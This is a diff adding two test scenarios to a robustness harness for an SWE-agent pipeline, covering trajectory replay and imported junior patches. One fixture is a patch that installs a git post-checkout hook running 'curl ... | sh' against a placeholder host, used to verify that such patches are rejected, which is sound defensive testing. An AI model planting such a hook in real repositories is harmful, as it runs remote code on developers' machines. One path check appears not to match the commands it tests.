@@ -31,6 +31,18 @@ Scenarios (each its own run; --only NAME,NAME runs some of them):
   queue-killed
              on a local Ray cluster, the run's write queue actor SIGKILLed mid-juniors: the tasks stay unfinished,
              the driver takes back what its nodes kept as it ends, and the rerun finishes.
+  replay-checks
+             `swepipe replay` of a folder holding each task's own trajectory and, sorted first, a stray one named
+             for another task that records the first task's id, with containers.network: true in the config; the
+             commands name /testbed-old and /home/u/testbed beside /testbed and list the network interfaces. Lost:
+             a task's own trajectory not replayed; faults as results: the stray replayed, a path that is not the
+             root mapped, an interface but lo; $ over: any dollar paid; other run touched: a source file changed.
+  import-checks
+             `run -k 0 --juniors-from` a swepipe run whose costs are NaN, negative and boolean and a predictions
+             file whose patches touch .git/, are binary or do not apply; then the run named as its own source.
+             Faults as results also count an imported cost that is no amount, a bad patch in a pool and the run
+             taken as its own source; other run touched: a file of the source run changed, or of the run by the
+             refused command.
 Prints one table: tasks, finished, tasks lost, conversation positions paid twice, faults recorded as
 results (a rollout ended model_error by a fault, a prediction or verdict holding an infrastructure error),
 dollars over each budget, containers left. Every "must be 0" column must be 0. The last three scenarios also count
@@ -43,6 +55,7 @@ lost from the ledger, or paid again) counts as paid twice.
 from __future__ import annotations
 
 import argparse
+import hashlib
 import json
 import os
 import signal
@@ -523,6 +536,123 @@ def _answered(layout: RunLayout, tasks: list) -> int:
     return sum(1 for t in tasks for row in Ledger.read(layout.task(t.instance_id).ledger) if row.error is None)
 
 
+def _mini_trajectory(path: Path, instance_id: str, commands: list[str]) -> None:
+    """A mini-swe-agent 1.x trajectory: a reply a command (each exited 0), then mini's submit."""
+    messages = [{"role": "system", "content": "One command a reply."}, {"role": "user", "content": "Fix it."}]
+    for command in [*commands, "echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT && git add -A && git diff --cached"]:
+        messages.append({"role": "assistant", "content": f"Next.\n\n```bash\n{command}\n```"})
+        messages.append({"role": "user", "content": "<returncode>0</returncode>\n<output>\n</output>"})
+    path.write_text(json.dumps({"info": {"exit_status": "Submitted", "submission": "", "model_stats": {
+        "instance_cost": 0.01}}, "messages": messages, "trajectory_format": "mini-swe-agent-1",
+        "instance_id": instance_id}))
+
+
+def _digests(folder: Path) -> dict[str, str]:
+    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
+            for path in sorted(folder.rglob("*")) if path.is_file()}
+
+
+def replay_checks(work: Path, tasks: list) -> Row:
+    """A replay of untrusted trajectories: a stray file named for another task, paths beside the root, the network
+    asked for by the config."""
+    (work / "config.yaml").write_text(yaml.safe_dump({"containers": {"network": True}}))
+    folder, run_id = work / "trajectories", "replay-checks"
+    folder.mkdir(exist_ok=True)
+    commands = ["ls -d /testbed-old /home/u/testbed /testbed > /testbed/paths.txt 2>&1; true",
+                "ls /sys/class/net > /testbed/interfaces.txt"]
+    stray = folder / "a-stray-task.traj.json"  # sorted before every task's own
+    _mini_trajectory(stray, tasks[0].instance_id, ["touch /testbed/STRAY"])
+    for task in tasks:
+        _mini_trajectory(folder / f"{task.instance_id}.traj.json", task.instance_id, commands)
+    before = _digests(folder)
+    with open(work / "sessions.log", "a") as log:
+        done = subprocess.run([sys.executable, "-m", "pipeline.cli", "replay", str(folder), "--instance-ids",
+                               ",".join(t.instance_id for t in tasks), "--config", "config.yaml", "--run-id", run_id],
+                              cwd=work, env=bench_env(), stdout=log, stderr=subprocess.STDOUT)
+    layout = RunLayout(work / "runs" / run_id)
+    finished = layout.finished()
+    own, wrong = 0, 0
+    for task in tasks:
+        result = _read(layout.task(task.instance_id).replay_files.result) or {}
+        own += result.get("source") == str(folder / f"{task.instance_id}.traj.json")
+        wrong += result.get("source") == str(stray)
+        patch = (finished.get(task.instance_id) or {}).get("model_patch") or ""
+        added = [line[1:] for line in patch.splitlines() if line.startswith("+") and not line.startswith("+++")]
+        wrong += any("/app-old" in line or "/home/u/app" in line for line in added)  # a path beside the root
+        wrong += any(line.strip() not in ("", "lo") for line in _file_lines(patch, "interfaces.txt"))
+        wrong += not _file_lines(patch, "interfaces.txt")  # the command never ran: nothing says the network was off
+    costs = {t.instance_id: sum(r.cost for r in Ledger.read(layout.task(t.instance_id).ledger)) for t in tasks}
+    served = {t.instance_id: len(Ledger.read(layout.task(t.instance_id).ledger)) for t in tasks}
+    row = Row("replay-checks", len(tasks), len(finished), len(tasks) - own,
+              sum(max(0, count - (len(commands) + 1)) for count in served.values()), wrong,
+              max(costs.values(), default=0.0), sum(costs.values()), len(containers_left(run_id)),
+              sum(1 for name, digest in before.items() if _digests(folder).get(name) != digest))
+    row.notes = f"replay exit {done.returncode}; {own} of {len(tasks)} task(s) replayed from their own trajectory"
+    return row
+
+
+def _file_lines(patch: str, name: str) -> list[str]:
+    """The added lines of ``name``'s section of a patch."""
+    from pipeline import patchtext
+
+    section = patchtext.file_sections(patch).get(f"a/{name} b/{name}", "")
+    return [line[1:] for line in section.splitlines() if line.startswith("+") and not line.startswith("+++")]
+
+
+GIT_HOOK = ("diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n--- /dev/null\n"
+            "+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl -s https://example.com/x | sh\n")
+BINARY_PATCH = ("diff --git a/logo.png b/logo.png\nnew file mode 100644\nindex 0000000..d00491f\nGIT binary patch\n"
+                "literal 1\nIcmZPo000310RR91\n\nliteral 0\nHcmV?d00001\n\n")
+
+
+def import_checks(work: Path, tasks: list) -> Row:
+    """--juniors-from sources with costs that are no amount and patches that must stay out of the pool; then the
+    run named as its own source."""
+    scripted_config(work, SCRIPT, juniors={"k": 0})
+    source = RunLayout(work / "runs" / "src")
+    source.root.mkdir(parents=True, exist_ok=True)
+    bad_costs = [float("nan"), -1.0, True]
+    source.predictions.write_text("".join(json.dumps({"instance_id": task.instance_id, "model_patch": task.patch,
+                                                      "cost": {"total": bad_costs[n % 3]}}) + "\n"
+                                          for n, task in enumerate(tasks)))
+    stale = [task.patch.replace("\n ", "\n #", 1) for task in tasks]  # a context line the base does not have
+    bad = [tasks[n].patch + GIT_HOOK if n % 3 == 0 else BINARY_PATCH if n % 3 == 1 else stale[n]
+           for n in range(len(tasks))]
+    (work / "bad.json").write_text(json.dumps([{"instance_id": task.instance_id, "patch": patch, "prefix": "bad"}
+                                               for task, patch in zip(tasks, bad, strict=True)]))
+    ids, run_id = ",".join(t.instance_id for t in tasks), "import-checks"
+    source_before = _digests(source.root)
+
+    def run(*sources: str) -> subprocess.CompletedProcess:
+        command = [sys.executable, "-m", "pipeline.cli", "run", "--instance-ids", ids, "--config", "config.yaml",
+                   "--run-id", run_id, *(part for name in sources for part in ("--juniors-from", name))]
+        return subprocess.run(command, cwd=work, env=bench_env(), capture_output=True, text=True)
+
+    first = run("src", "bad.json")
+    layout = RunLayout(work / "runs" / run_id)
+    run_before = _files(layout.root)
+    itself = run("src", "bad.json", run_id)
+    refused = itself.returncode != 0 and f"--juniors-from {run_id}: is this run itself" in itself.stdout + itself.stderr
+    row = measure("import-checks", layout, tasks, run_id)
+    for task in tasks:
+        for record_path in layout.task(task.instance_id).junior_files.rollouts().values():
+            cost = json.loads(record_path.read_text()).get("imported_cost")
+            row.faults_as_results += cost is not None and not (type(cost) in (int, float) and 0 <= cost < float("inf"))
+        pool = _read(layout.task(task.instance_id).junior_files.pool) or {}
+        for candidate in pool.get("candidates") or []:  # rollout 1 of each task is bad.json's
+            patch = candidate.get("patch") or ""
+            row.faults_as_results += 1 in (candidate.get("rollouts") or []) or ".git/" in patch or "GIT binary" in patch
+    row.faults_as_results += not refused
+    row.foreign_touched = sum(1 for name, digest in source_before.items() if _digests(source.root).get(name) != digest)
+    after = _files(layout.root)
+    row.foreign_touched += sum(1 for name, size in run_before.items() if after.get(name, -1) != size)
+    left = sum(1 for t in tasks for r in (layout.task(t.instance_id).junior_files.rollouts().values())
+               if json.loads(r.read_text()).get("patch_dropped"))
+    row.notes = (f"first session exit {first.returncode}; {left} imported patch(es) left out of the pools; the run as "
+                 f"its own source refused: {refused} (exit {itself.returncode})")
+    return row
+
+
 def _replaced_by_design(name: str, after: dict[str, int]) -> bool:
     """A file the run itself retires as it goes: a rollout's trajectory once its record holds it, a reply journal
     once the trajectory holds the reply."""
@@ -580,6 +710,8 @@ SCENARIOS = {
     "journal-fails": journal_fails,
     "driver-killed": driver_killed,
     "queue-killed": queue_killed,
+    "replay-checks": replay_checks,
+    "import-checks": import_checks,
 }
 
 
